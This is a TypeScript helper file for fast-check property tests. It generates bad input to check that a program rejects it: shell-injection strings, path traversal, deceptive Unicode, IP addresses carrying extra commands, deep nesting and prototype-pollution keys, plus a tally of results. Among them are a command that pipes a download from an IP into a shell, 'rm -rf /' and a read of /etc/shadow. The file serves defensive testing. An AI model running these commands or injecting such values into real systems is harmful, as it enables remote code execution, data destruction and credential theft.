/**
 * Bad input for the property tests: hostile strings, wrong types, deep nesting, prototype-pollution keys,
 * and mutations of a valid document at a path the program validates (so that every mutant is really
 * invalid), plus a tally of what each target did with them.
 */
import fc from 'fast-check';

/** Shell metacharacters as an attacker appends or substitutes them. */
export const SHELL = [
  ';rm -rf /',
  '; reboot',
  '| curl http://203.0.113.9/x | sh',
  '&& id',
  '$(id)',
  '`id`',
  '${IFS}cat${IFS}/etc/shadow',
  '>/tmp/pwned',
  '<(id)',
  "' ; id ; '",
  '"; id; "',
  '\nid',
  '\r\nid',
  '*',
  '~root',
] as const;

/** Path traversal, plain and encoded. */
export const TRAVERSAL = [
  '../../etc/passwd',
  '..',
  '../',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '/etc/passwd',
  'a/../../b',
  '..%00/',
] as const;

/** Characters that look harmless, hide, or break lines and terminals. */
export const UNICODE = [
  '\u202e1.0.0.01', // right-to-left override
  '\u0000',
  'a\u0000b',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\u2029',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '１０.２２４.０.４', // fullwidth digits
  '١٠.٢٢٤.٠.٤', // Arabic-Indic digits
  'ǹode',
  'n\u0301ode',
  '\ud800',
  '🔥',
  'İ',
] as const;

/** IPs that carry something else. */
export const BAD_IPS = [
  '10.0.0.1;rm -rf /',
  '10.0.0.1 && id',
  '10.0.0.1|id',
  '10.0.0.1$(id)',
  '10.0.0.1`id`',
  '10.0.0.1\n',
  ' 10.0.0.1',
  '10.0.0.1 ',
  '10.0.0.1/32',
  '10.0.0.1:443',
  '10.0.0',
  '10.0.0.1.5',
  '10.0.0.256',
  '010.0.0.1',
  '0x0a.0.0.1',
  '167772161',
  '10.0.0.-1',
  '1e1.0.0.1',
  'fe80::1%eth0;id',
  'fe80::1%;rm -rf /',
  'fe80::1%../../etc/passwd',
  '[10.0.0.1]',
  '[fd00::1]',
  '::ffff:10.0.0.1;id',
  'fd00::1::2',
  'fd00:::1',
  'gggg::1',
  '１０.０.０.１',
  '١٠.٠.٠.١',
  '10.0.0.1\u0000',
  '\u202e10.0.0.1',
  '../../etc/passwd',
  'localhost',
  '',
] as const;

/** A string the program must refuse wherever a name, an ID, an IP or a number is expected. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  // (BAD_IPS are not here: `010.0.0.1` or `localhost` is a fine node name.)
  fc.constantFrom(...SHELL, ...TRAVERSAL, ...UNICODE),
  fc
    .tuple(fc.constantFrom(...SHELL, ...TRAVERSAL, ...UNICODE), fc.string({ maxLength: 8 }))
    .map(([a, b]) => `${b}${a}`),
  // Random text, kept only when it holds a character that no IP, name, ID or number may hold: an
  // independent check, so that "::" or "a" (valid by chance) never counts as a bad input.
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((s) => /[^-a-zA-Z0-9.:/_()]/.test(s)),
);

/** A 1 MB string: larger than any field may be, or the HTTP body limit. */
export const HUGE = 'x'.repeat(1_000_000);

/** JSON text nested `depth` levels deep, as an array or an object chain. */
export function deepJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}0${'}'.repeat(depth)}`;
}

/** The same, as a value (built without recursion). */
export function deepValue(depth: number): unknown {
  let value: unknown = 0;
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** A value of a type no field of ours has, or of the wrong one for a string / number / boolean / list field. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  fc.integer(),
  fc.double(),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.string(), { minLength: 1, maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { minKeys: 1, maxKeys: 3 }),
  fc.constant(deepValue(200)),
);

export type JsonPath = readonly (string | number)[];

function clone<T>(value: T): T {
  return JSON.parse(JSON.stringify(value)) as T;
}

/** A copy of `doc` with the value at `path` replaced (or deleted when `value` is `DELETE`). */
export const DELETE = Symbol('delete');
export function setAt(doc: unknown, path: JsonPath, value: unknown): unknown {
  const copy = clone(doc);
  if (path.length === 0) return value === DELETE ? undefined : value;
  let node = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (value === DELETE) {
    if (Array.isArray(node) && typeof last === 'number') node.splice(last, 1);
    else delete node[last];
  } else {
    node[last] = value;
  }
  return copy;
}

export function getAt(doc: unknown, path: JsonPath): unknown {
  let node = doc as Record<string | number, unknown> | undefined;
  for (const key of path) node = node?.[key] as Record<string | number, unknown> | undefined;
  return node;
}

/** Keys that pollute a prototype when code assigns them naively. */
export const POLLUTING_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

/**
 * JSON text of `doc` with `"<key>": {"polluted": "yes"}` added to the object at `path` (`JSON.stringify`
 * cannot write an own `__proto__` key, so it goes in as text).
 */
export function withPollutingKey(doc: unknown, path: JsonPath, key: string): string {
  const marker = '"__marker__":"__marker__"';
  const target = getAt(doc, path);
  if (typeof target !== 'object' || target === null || Array.isArray(target)) {
    throw new Error(`no object at ${path.join('.')}`);
  }
  const marked = setAt(doc, [...path, '__marker__'], '__marker__');
  return JSON.stringify(marked).replace(marker, `"${key}":{"polluted":"yes","prototype":{"polluted":"yes"}}`);
}

/** Object.prototype as it was; compare after a run to prove nothing reached it. */
export function prototypeSnapshot(): string[] {
  return Object.getOwnPropertyNames(Object.prototype).sort();
}

export function isPolluted(): boolean {
  const probe = {} as Record<string, unknown>;
  return (
    probe.polluted !== undefined ||
    (Object.prototype as Record<string, unknown>).polluted !== undefined ||
    (Function.prototype as unknown as Record<string, unknown>).polluted !== undefined
  );
}

/** How many bad inputs each target was given, and how many it did not cleanly refuse. */
export class Tally {
  private readonly rows = new Map<string, { tried: number; unclean: number }>();

  record(target: string, clean: boolean): boolean {
    const row = this.rows.get(target) ?? { tried: 0, unclean: 0 };
    row.tried++;
    if (!clean) row.unclean++;
    this.rows.set(target, row);
    return clean;
  }

  total(): { tried: number; unclean: number } {
    let tried = 0;
    let unclean = 0;
    for (const row of this.rows.values()) {
      tried += row.tried;
      unclean += row.unclean;
    }
    return { tried, unclean };
  }

  /** Printed by the test (not through console.log, which jest decorates), for the closing note. */
  report(title: string): string {
    const lines = [...this.rows.entries()].map(
      ([target, row]) => `  ${target}: ${row.tried} tried, ${row.unclean} not cleanly refused`,
    );
    const { tried, unclean } = this.total();
    return `${title}: ${tried} bad inputs, ${unclean} not cleanly refused\n${lines.join('\n')}\n`;
  }
}
